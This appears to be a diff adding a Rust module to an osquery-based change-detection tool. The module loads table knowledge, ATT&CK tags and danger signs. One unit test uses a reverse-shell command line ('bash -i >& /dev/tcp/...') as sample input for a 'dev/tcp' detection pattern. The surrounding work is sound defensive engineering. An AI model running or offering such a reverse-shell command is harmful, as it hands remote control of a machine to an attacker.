@@ -1,0 +1,182 @@
+//! What is known beforehand of osquery's tables: which columns say what a row is about, which mean nothing, and
+//! what makes a row dangerous. The data is `model/tables/tables.json`; a pack's annotations beat it.
+
+mod sql;
+
+use crate::name::{ColumnName, TableName};
+use crate::pack::Query;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+
+const TABLES: &str = include_str!("../../tables/tables.json");
+
+/// An ATT&CK technique, as in `T1053.003`.
+#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
+#[serde(transparent)]
+pub struct Attack(pub String);
+
+/// Something about a row that makes a difference in it worth more.
+#[derive(Clone, Debug, PartialEq, Deserialize)]
+pub struct Sign {
+    /// The column that is looked at.
+    pub column: ColumnName,
+    /// What its value must be.
+    #[serde(flatten)]
+    pub test: Test,
+    /// How many bits it adds to the row's score.
+    pub bits: f64,
+    /// What it means, to go on a sentence: "its binary is deleted".
+    pub say: String,
+    /// The ATT&CK techniques that it speaks for.
+    #[serde(default)]
+    pub attack: Vec<Attack>,
+}
+
+/// A test of one value.
+#[derive(Clone, Debug, PartialEq, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Test {
+    /// It is one of these.
+    Is(Vec<String>),
+    /// It is none of these, and not empty.
+    IsNot(Vec<String>),
+    /// It starts with one of these.
+    StartsWith(Vec<String>),
+    /// It contains one of these.
+    Contains(Vec<String>),
+}
+
+impl Test {
+    /// Whether a value passes.
+    pub fn holds(&self, value: &[u8]) -> bool {
+        let any = |list: &[String], f: &dyn Fn(&[u8]) -> bool| list.iter().any(|item| f(item.as_bytes()));
+        match self {
+            Self::Is(list) => any(list, &|item| value == item),
+            Self::IsNot(list) => !value.is_empty() && !any(list, &|item| value == item),
+            Self::StartsWith(list) => any(list, &|item| value.starts_with(item)),
+            Self::Contains(list) => {
+                any(list, &|item| !item.is_empty() && value.windows(item.len()).any(|part| part == item))
+            }
+        }
+    }
+}
+
+/// What is known of the rows of one query.
+#[derive(Clone, Debug, Default, PartialEq)]
+pub struct Knowledge {
+    /// A name for one row, as in "listener".
+    pub noun: String,
+    /// How a row is named in a sentence: text with `{column}` in it; empty where nothing is known.
+    pub label: String,
+    /// The columns that say which thing a row is about; empty where the whole row does.
+    pub key: Vec<ColumnName>,
+    /// The columns that differ without meaning anything.
+    pub volatile: Vec<ColumnName>,
+    /// Bits added to the surprise of a difference.
+    pub weight: f64,
+    /// The ATT&CK techniques that a difference may be.
+    pub attack: Vec<Attack>,
+    /// What makes a row dangerous.
+    pub signs: Vec<Sign>,
+}
+
+#[derive(Clone, Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields, default)]
+struct Table {
+    noun: String,
+    label: String,
+    key: Vec<ColumnName>,
+    volatile: Vec<ColumnName>,
+    weight: f64,
+    attack: Vec<Attack>,
+    signs: Vec<Sign>,
+}
+
+#[derive(Clone, Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Catalogue {
+    /// Columns that are volatile in whatever table they stand.
+    volatile: Vec<ColumnName>,
+    tables: BTreeMap<TableName, Table>,
+}
+
+/// What is known of all tables.
+#[derive(Clone, Debug)]
+pub struct Tables(Catalogue);
+
+impl Tables {
+    /// The knowledge that is built in.
+    pub fn builtin() -> Result<Self, serde_json::Error> {
+        serde_json::from_str(TABLES).map(Self)
+    }
+
+    /// What is known of a query's rows: of the tables that its statement names (or, without a statement, the table of
+    /// its name), and then what the pack says.
+    pub fn of_query(&self, query: &Query) -> Knowledge {
+        let named = match &query.sql {
+            Some(sql) => {
+                sql::tables(sql).into_iter().filter_map(|name| self.0.tables.get(name.as_str())).collect()
+            }
+            None => Vec::from_iter(self.0.tables.get(query.name.as_str())),
+        };
+        let first = named.first().copied();
+        let said = &query.annotation;
+        let volatile = || {
+            let of_tables = named.iter().flat_map(|table| &table.volatile);
+            self.0.volatile.iter().chain(of_tables).cloned().collect()
+        };
+        Knowledge {
+            noun: said.noun.clone().or_else(|| first.map(|t| t.noun.clone())).unwrap_or_else(|| "row".into()),
+            label: said.label.clone().or_else(|| first.map(|t| t.label.clone())).unwrap_or_default(),
+            key: said.key.clone().or_else(|| first.map(|t| t.key.clone())).unwrap_or_default(),
+            volatile: said.volatile.clone().unwrap_or_else(volatile),
+            weight: said.weight.or_else(|| first.map(|t| t.weight)).unwrap_or_default(),
+            attack: said.attack.clone().or_else(|| first.map(|t| t.attack.clone())).unwrap_or_default(),
+            signs: said.signs.clone().or_else(|| first.map(|t| t.signs.clone())).unwrap_or_default(),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::pack::Pack;
+
+    fn knowledge(pack: &str) -> Knowledge {
+        Tables::builtin().unwrap().of_query(&Pack::parse(pack).unwrap().queries()[0])
+    }
+
+    #[test]
+    fn a_statement_brings_the_knowledge_of_its_tables() {
+        let known = knowledge(
+            r#"{"queries":{"x":{"query":"SELECT p.name FROM processes p JOIN hash h USING (path)"}}}"#,
+        );
+        assert_eq!(known.noun, "process");
+        assert!(known.volatile.contains(&"pid".into()));
+    }
+
+    #[test]
+    fn the_name_speaks_where_there_is_no_statement() {
+        assert_eq!(knowledge(r#"{"queries":{"crontab":{}}}"#).noun, "cron job");
+        assert_eq!(knowledge(r#"{"queries":{"mystery":{}}}"#).noun, "row");
+    }
+
+    #[test]
+    fn the_pack_beats_what_is_built_in() {
+        let known = knowledge(
+            r#"{"queries":{"x":{"query":"SELECT * FROM users","herdiff":{"volatile":[],"weight":9}}}}"#,
+        );
+        assert!(known.volatile.is_empty());
+        assert_eq!(known.weight, 9.0);
+        assert_eq!(known.noun, "user");
+    }
+
+    #[test]
+    fn tests_of_values() {
+        let list = |items: &[&str]| items.iter().map(|&item| item.to_owned()).collect();
+        assert!(Test::Contains(list(&["/../", "dev/tcp"])).holds(b"bash -i >& /dev/tcp/1.2.3.4/1"));
+        assert!(!Test::Contains(list(&[""])).holds(b"x"));
+        assert!(Test::IsNot(list(&["127.0.0.1"])).holds(b"0.0.0.0"));
+        assert!(!Test::IsNot(list(&["127.0.0.1"])).holds(b""));
+    }
+}
